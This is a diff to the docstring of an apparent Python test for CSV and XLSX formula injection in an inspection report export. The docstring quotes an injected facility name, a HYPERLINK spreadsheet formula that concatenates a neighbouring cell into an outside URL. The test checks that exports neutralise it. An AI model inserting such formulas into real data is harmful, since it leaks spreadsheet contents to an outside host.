@@ -3,7 +3,8 @@
 The attack: a facility named ``=HYPERLINK("http://…"&B2,"详情")`` uploaded by county staff
 came out verbatim in a province inspector's CSV and as a live formula cell in the XLSX.
 Now (OWASP CSV injection): in CSV such text starts with a single quote; in XLSX it is a
-string cell with the exact text — openpyxl finds no formula cell in the workbook.
+string cell with the exact text — openpyxl finds no formula cell in the workbook. The report
+is pulled through the API (in process) over the worked fortnight in a real InfluxDB.
 """
 
 from __future__ import annotations
